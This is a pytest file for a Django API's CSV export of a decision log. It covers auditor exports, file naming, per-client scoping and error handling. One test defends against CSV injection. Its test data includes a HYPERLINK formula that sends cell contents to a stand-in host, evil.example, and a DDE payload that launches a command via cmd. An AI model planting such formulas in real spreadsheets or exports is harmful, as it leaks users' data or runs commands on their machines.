"""GET /api/v1/decisions/?format=csv: every decision a filter selects, for an examiner's file."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse
from rest_framework.test import APIClient

from decisions.exports import LOG_CSV_FIELDS
from decisions.models import Decision
from decisions.services import decision_make
from governance.roles import Role
from tests.decisions.test_decision_log import features
from tests.decisions.test_log_verification_api import as_user
from tests.decisions.test_replay_sample import logged  # noqa: F401 (a fixture)

pytestmark = pytest.mark.django_db

URL = "/api/v1/decisions/"


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, getattr(response, "content", b"")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == LOG_CSV_FIELDS
    return list(reader)


def test_an_auditor_exports_the_selected_decisions_oldest_first(logged, auditor):  # noqa: F811
    rows = rows_of(as_user(auditor).get(URL, {"format": "csv", "customer_id": "c-3"}))
    mine = [d for d in logged if d.customer_id == "c-3"]
    assert [r["decision_id"] for r in rows] == [str(d.decision_id) for d in mine]
    for row, decision in zip(rows, mine, strict=True):
        assert int(row["seq"]) == decision.seq and row["content_hash"] == decision.content_hash
        assert (row["deployment"], row["deployment_version"]) == ("cross-sell", "cross-sell v1")
        assert row["strategy_version"] == "cross-sell v1"
        assert row["constraint_set_version"] == "cross-sell-limits v1"
        assert (row["action_id"], row["arm"]) == (decision.action_id, decision.arm)
        assert float(row["value"]) == decision.value
        codes = [row[f"reason_{i}"] for i in range(1, 5)]
        assert [c for c in codes if c] == [r["code"] for r in decision.reasons]
        assert json.loads(row["features"]) == decision.features
        assert json.loads(row["action"]) == decision.action
    everything = as_user(auditor).get(URL, HTTP_ACCEPT="text/csv")
    assert everything["Content-Disposition"] == 'attachment; filename="decisions.csv"'
    everything = rows_of(everything)
    assert len(everything) == 40
    assert [int(r["seq"]) for r in everything] == sorted(d.seq for d in logged)
    # The file's name says what it holds: a quarter's decisions of one deployment.
    quarter = as_user(auditor).get(
        URL,
        {
            "format": "csv",
            "deployment": "cross-sell",
            "since": "2026-07-01T00:00:00Z",
            "until": "2026-10-01T00:00:00Z",
        },
    )
    assert quarter["Content-Disposition"] == (
        'attachment; filename="decisions-cross-sell-from-2026-07-01-to-2026-09-30.csv"'
    )
    odd = as_user(auditor).get(URL, {"format": "csv", "customer_id": 'c/3 "x"'})
    assert odd["Content-Disposition"] == 'attachment; filename="decisions-c_3_x_.csv"'


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    logged,  # noqa: F811
    auditor,
    api_client_user,
):
    """A client's customer id or channel is the client's text: opened in a spreadsheet, it
    must not run (CSV injection). Numbers stay numbers."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    decision_make(
        actor=api_client_user,
        deployment="cross-sell",
        customer_id=hostile,
        channel="@SUM(1+1)*cmd|' /C calc'!A0",
        features=features(3),
    )
    [row] = rows_of(as_user(auditor).get(URL, {"format": "csv", "customer_id": hostile}))
    assert row["customer_id"] == "'" + hostile
    assert row["channel"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert float(row["value"]) == Decision.objects.get(customer_id=hostile).value


def test_a_client_exports_only_its_own_decisions(logged, make_user):  # noqa: F811
    other = make_user("other-app", Role.API_CLIENT)
    assert rows_of(as_user(other).get(URL, {"format": "csv"})) == []


def test_bad_filters_and_formats_answer_400_in_json(logged, auditor, api_client_user):  # noqa: F811
    client = as_user(auditor)
    for query, field in (
        ({"format": "csv", "since": "yesterday"}, "since"),
        ({"format": "cvs"}, "format"),
    ):
        answer = client.get(URL, query)
        assert answer.status_code == 400, answer
        assert answer["Content-Type"] == "application/json"
        assert field in answer.json()["error"]["details"]
    assert as_user(api_client_user).post(
        f"{URL}?format=csv", {"deployment": "cross-sell"}, format="json"
    ).json()["error"]["details"] == {"format": ["must be one of: json"]}
    assert APIClient().get(URL, {"format": "csv"}).status_code == 401
